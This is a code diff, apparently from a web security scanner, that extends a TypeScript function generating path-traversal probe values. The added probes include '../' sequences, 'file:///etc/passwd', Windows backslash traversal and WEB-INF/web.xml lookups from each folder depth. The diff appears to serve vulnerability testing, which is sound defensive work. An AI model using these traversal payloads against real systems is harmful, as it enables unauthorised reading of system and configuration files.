@@ -1,4 +1,5 @@
 import type { InjectionPoint } from '../../../evidence/parse/application/injection-point.ts';
+import { firstOfEach } from '../../../evidence/parse/text/first-of-each.ts';
 import { type KnownFile, PASSWD, SOURCE, WEB_XML, WIN_INI } from './known-files.ts';
 
 export interface FilePath {
@@ -15,6 +16,7 @@ export function pathsFor(point: InjectionPoint, isThorough: boolean): readonly F
   const extension = EXTENSION.exec(value)?.[0] ?? '';
   const folder = value.includes('/') && !/^[a-z]+:/i.test(value) ? value.slice(0, value.lastIndexOf('/') + 1) : '';
   const passwd = [
+    ...inFormOf(value),
     `${UP}etc/passwd`,
     '/etc/passwd',
     ...(folder === '' || folder === '/' ? [] : [`${folder}${UP}etc/passwd`]),
@@ -40,6 +42,7 @@ export function pathsFor(point: InjectionPoint, isThorough: boolean): readonly F
     ...(isThorough || isJava(point)
       ? [
           'WEB-INF/web.xml',
+          ...fromFolders(point),
           '../WEB-INF/web.xml',
           '../../WEB-INF/web.xml',
           '/../WEB-INF/web.xml',
@@ -48,12 +51,28 @@ export function pathsFor(point: InjectionPoint, isThorough: boolean): readonly F
         ]
       : []),
   ];
-  return [
+  const all = [
     ...passwd.map((one) => ({ file: PASSWD, value: one })),
     ...(isPhp(point) ? sources(point) : []),
     ...java.map((one) => ({ file: WEB_XML, value: one })),
     ...windows.map((one) => ({ file: WIN_INI, value: one })),
   ];
+  return firstOfEach(all, (one) => one.value);
+}
+
+/** A path out of the folder that begins as the value of the site does: `/content.ini` becomes `/../…`, `file:` a URL of a file. */
+function inFormOf(value: string): string[] {
+  if (/^file:\/\//i.test(value)) return ['file:///etc/passwd'];
+  const start = /^(?:\.?\/|\.?\\)/.exec(value)?.[0];
+  if (start === undefined) return [];
+  return start.endsWith('\\') ? [`${start}${'..\\'.repeat(10)}etc\\passwd`] : [`${start}${UP}etc/passwd`];
+}
+
+/** The descriptor from each folder between the page and the root: Java reads no path that leads beyond it. */
+function fromFolders({ url, value }: InjectionPoint): string[] {
+  const depth = Math.min(4, new URL(url).pathname.split('/').length - 2);
+  const start = value.startsWith('/') ? '/' : '';
+  return Array.from({ length: Math.max(1, depth) }, (_, i) => `${start}${'../'.repeat(i + 1)}WEB-INF/web.xml`);
 }
 
 /** For checks of the start or end of a path, parts that are added or removed, and separators that are replaced. */
